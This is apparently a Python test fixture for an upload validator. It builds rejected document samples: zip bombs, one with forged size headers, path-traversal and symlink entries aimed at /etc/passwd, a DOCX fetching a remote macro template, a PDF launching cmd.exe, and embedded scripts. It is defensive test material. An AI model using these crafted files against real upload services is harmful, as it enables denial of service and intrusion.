"""Documents nobody should be able to upload."""

import io
import struct
import zipfile
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import (
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from tests.web.library import samples

_SCRIPT = b"<script>alert(1)</script>"
_MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml"
_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://192.0.2.1/a.dotm"/></Relationships>'
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512


def _zip_bomb(name: str) -> bytes:
    """A document of some kilobytes that unpacks to a thousand times as much."""
    buffer = io.BytesIO(samples.docx())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w") as member,
    ):
        for _ in range(256):
            member.write(b"\x00" * 1024 * 1024)
    return buffer.getvalue()


def _lying_bomb() -> bytes:
    """The same, that says of itself to be small."""
    bomb = bytearray(_zip_bomb("word/media/a.bin"))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = bomb.rindex(mark)
        bomb[place + offset : place + offset + 4] = struct.pack("<I", 1000)
    return bytes(bomb)


def _symlink() -> bytes:
    buffer = io.BytesIO(samples.docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("word/media/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _pdf_with(name: str, value: DictionaryObject) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.root_object[NameObject(name)] = value
    return samples.written(writer)


def _action(kind: str, **fields: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(f"/{kind}"),
            **{
                NameObject(f"/{name}"): TextStringObject(v)
                for name, v in fields.items()
            },
        }
    )


def _pdf_script() -> bytes:
    return _pdf_with("/OpenAction", _action("JavaScript", JS="app.alert(1)"))


def _pdf_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("a.exe", b"MZ")
    return samples.written(writer)


def _pdf_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("mat khau", algorithm="RC4-128")
    return samples.written(writer)


# What it is: how it is made, and words of the order its sender is given.
DOCUMENTS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a macro document": (lambda: samples.docx(types=_MACRO_DOCUMENT), "macro"),
    "a document with a hidden macro": (
        lambda: samples.docx({"word/vbaProject.bin": b"Attribute VB_Name"}),
        "macro",
    ),
    "a document with a macro by another name": (
        lambda: samples.docx({"word/media/image1.png": _OLE}),
        "nhúng",
    ),
    "a document with an object": (
        lambda: samples.docx({"word/embeddings/oleObject1.bin": _OLE}),
        "nhúng",
    ),
    "a document with a program": (
        lambda: samples.docx({"word/media/image2.png": b"MZ\x90" + b"\x00" * 99}),
        "nhúng",
    ),
    "a document with a document with a macro": (
        lambda: samples.docx(
            {
                "word/embeddings/a.docx": samples.docx(
                    {"word/vbaProject.bin": b"Attribute"}
                )
            }
        ),
        "macro",
    ),
    "a document that fetches a template": (
        lambda: samples.docx({"word/_rels/settings.xml.rels": _TEMPLATE}),
        "từ nơi khác",
    ),
    "a document with entities": (
        lambda: samples.docx(
            {"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}
        ),
        "hỏng",
    ),
    "a sheet with controls": (
        lambda: samples.xlsx({"xl/activeX/activeX1.xml": b"<a/>"}),
        "macro",
    ),
    "a sheet that asks programs": (
        lambda: samples.xlsx({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}),
        "macro",
    ),
    "an ODT with Basic": (
        lambda: samples.odt({"Basic/Standard/Module1.xml": b"<a/>"}),
        "macro",
    ),
    "an ODT with scripts": (
        lambda: samples.odt({"Scripts/python/a.py": b"x"}),
        "macro",
    ),
    "an ODT that listens": (
        lambda: samples.odt(
            {"content.xml": b'<script:event-listener script:language="a"/>'}
        ),
        "macro",
    ),
    "an ODT with a password": (
        lambda: samples.odt({"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
        "mật khẩu",
    ),
    "a drawing of OpenDocument": (lambda: samples.odt(kind="graphics"), "Chỉ nhận"),
    "a zip bomb": (lambda: _zip_bomb("word/media/a.bin"), "quá lớn"),
    "a zip bomb that lies": (lambda: _lying_bomb(), "hỏng"),
    "a zip that climbs": (lambda: samples.docx({"../../portal.db": b"x"}), "hỏng"),
    "a zip from the root": (lambda: samples.docx({"/etc/passwd": b"x"}), "hỏng"),
    "a zip with a link": (lambda: _symlink(), "hỏng"),
    "a zip with something before": (
        lambda: b"PK\x03\x04" + b"\x00" * 60 + samples.docx(),
        "",
    ),
    "a zip with something behind": (lambda: samples.docx() + _SCRIPT, "hỏng"),
    "a PDF with a script": (lambda: _pdf_script(), "mã tự chạy"),
    "a PDF that starts programs": (
        lambda: _pdf_with("/OpenAction", _action("Launch", F="cmd.exe")),
        "mã tự chạy",
    ),
    "a PDF with a file in it": (lambda: _pdf_attachment(), "đính bên trong"),
    "a PDF with a password": (lambda: _pdf_password(), "mật khẩu"),
    "a PDF with more behind": (lambda: samples.pdf() + _SCRIPT, "nội dung lạ"),
    "a PDF cut short": (lambda: samples.pdf()[:-30], "thiếu phần cuối"),
    "a PDF of nothing": (lambda: b"%PDF-1.7\n%%EOF", "hỏng"),
}
